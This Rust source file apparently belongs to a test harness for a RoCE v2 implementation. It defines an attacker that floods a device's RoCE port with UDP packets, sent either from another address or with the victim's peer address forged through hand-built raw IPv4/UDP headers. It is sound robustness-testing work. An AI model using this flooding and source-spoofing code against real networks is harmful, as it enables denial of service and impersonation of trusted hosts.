//! Who sends a flood.

use std::io::{self, ErrorKind};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};

use ferroce_wire::ROCE_V2_PORT;
use socket2::{Domain, Protocol, Type};

use super::packets::{Flood, Known, PACKET_LEN_MAX, Packets};

/// Where the packets of a flood come from, as their victim sees it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Origin {
    /// Another host: an address of its own, and the devices' port.
    Outsider,
    /// Another user of this host: an address of it, and another port than the devices'.
    User,
    /// The victim's peer, whose address and port are forged with a raw socket.
    Forged,
}

impl Origin {
    /// All of them.
    pub const ALL: [Self; 3] = [Self::Outsider, Self::User, Self::Forged];

    /// Its name in tables.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Outsider => "own",
            Self::User => "user",
            Self::Forged => "forged",
        }
    }
}

/// Sends packets as fast as a processor can.
#[derive(Debug)]
pub struct Attacker {
    way: Way,
    source: SocketAddr,
}

#[derive(Debug)]
enum Way {
    Datagrams(UdpSocket),
    /// Packets with an IPv4 and a UDP header of the attacker's making.
    Raw(socket2::Socket),
}

/// What was sent, and what came back to the address that it was sent from.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub struct Sent {
    /// Packets.
    pub packets: u64,
    /// UDP payload, bytes.
    pub bytes: u64,
    /// UDP payload that arrived at the attacker's own socket, bytes; what a victim sends to a forged address
    /// does not.
    pub replied: u64,
}

const IP_LEN: usize = 20;
/// Headers before a packet, of IPv4 and UDP.
const LEAD_LEN: usize = IP_LEN + 8;
const UDP: u8 = 17;
/// Of sockets whose sender writes the IP header.
const IPPROTO_RAW: i32 = 255;
/// The least that an attacker sends, packets. A victim's receive buffer has room for them.
pub const LEAST: u64 = 320;
/// Packets between two looks at what has come back, and at whether it is time to stop.
const BURST: u64 = 32;

impl Attacker {
    /// One who sends from `own`, or in the name of `peer`.
    ///
    /// # Errors
    /// Returns an error when the address is in use, or when this user may not forge addresses.
    pub fn new(origin: Origin, own: IpAddr, peer: IpAddr) -> io::Result<Self> {
        let (way, source) = match origin {
            Origin::Outsider | Origin::User => {
                let port = match origin {
                    Origin::Outsider => ROCE_V2_PORT,
                    _ => 0,
                };
                let socket = UdpSocket::bind((own, port))?;
                socket.set_nonblocking(true)?;
                let source = socket.local_addr()?;
                (Way::Datagrams(socket), source)
            }
            Origin::Forged => {
                let protocol = Protocol::from(IPPROTO_RAW);
                let socket = socket2::Socket::new(Domain::IPV4, Type::RAW, Some(protocol))?;
                (Way::Raw(socket), SocketAddr::new(peer, ROCE_V2_PORT))
            }
        };
        Ok(Self { way, source })
    }

    /// Sends packets until told to stop, or this many; [`LEAST`] of them in any case, so that on a busy machine
    /// there is an attack at all.
    ///
    /// # Errors
    /// Returns an error when the socket refuses a packet for another reason than lack of room.
    pub fn run(
        &self,
        flood: Flood,
        known: Known,
        seed: u64,
        most: u64,
        stop: &AtomicBool,
    ) -> io::Result<Sent> {
        let packets = Packets::new(flood, known, self.source, seed);
        let mut packets = packets.ok_or(ErrorKind::AddrNotAvailable)?;
        let mut buffer = [0; LEAD_LEN + PACKET_LEN_MAX];
        let mut sent = Sent::default();
        let is_over = |packets| packets >= LEAST && stop.load(Ordering::Relaxed);
        while sent.packets < most && !is_over(sent.packets) {
            for _ in 0..BURST.min(most - sent.packets) {
                let len = packets.make(&mut buffer[LEAD_LEN..]);
                match self.send(&mut buffer[..LEAD_LEN + len], known.device) {
                    Ok(()) => {
                        sent.packets += 1;
                        sent.bytes += len as u64;
                    }
                    Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                    Err(error) => return Err(error),
                }
            }
            sent.replied += self.replies();
        }
        Ok(sent)
    }

    /// Bytes that have come back.
    pub fn replies(&self) -> u64 {
        let Way::Datagrams(socket) = &self.way else {
            return 0;
        };
        let mut buffer = [0; PACKET_LEN_MAX + 4096];
        let mut bytes = 0;
        while let Ok(len) = socket.recv(&mut buffer) {
            bytes += len as u64;
        }
        bytes
    }

    /// Sends what is behind the room for headers.
    fn send(&self, bytes: &mut [u8], dest: SocketAddr) -> io::Result<()> {
        match &self.way {
            Way::Datagrams(socket) => socket.send_to(&bytes[LEAD_LEN..], dest)?,
            Way::Raw(socket) => {
                lead(bytes, self.source, dest)?;
                socket.send_to(bytes, &dest.into())?
            }
        };
        Ok(())
    }
}

/// Writes the headers of IPv4 and UDP. The kernel adds the length, the Identification and the checksum of the
/// first; the second goes without one, which IPv4 allows.
fn lead(bytes: &mut [u8], source: SocketAddr, dest: SocketAddr) -> io::Result<()> {
    let (IpAddr::V4(from), IpAddr::V4(to)) = (source.ip(), dest.ip()) else {
        return Err(ErrorKind::Unsupported.into());
    };
    let len = u16::try_from(bytes.len() - IP_LEN).map_err(|_| ErrorKind::InvalidInput)?;
    bytes[..12].copy_from_slice(&[0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0]);
    bytes[12..16].copy_from_slice(&from.octets());
    bytes[16..IP_LEN].copy_from_slice(&to.octets());
    let fields = [source.port(), dest.port(), len, 0];
    for (field, value) in bytes[IP_LEN..]
        .as_chunks_mut::<2>()
        .0
        .iter_mut()
        .zip(fields)
    {
        *field = value.to_be_bytes();
    }
    Ok(())
}
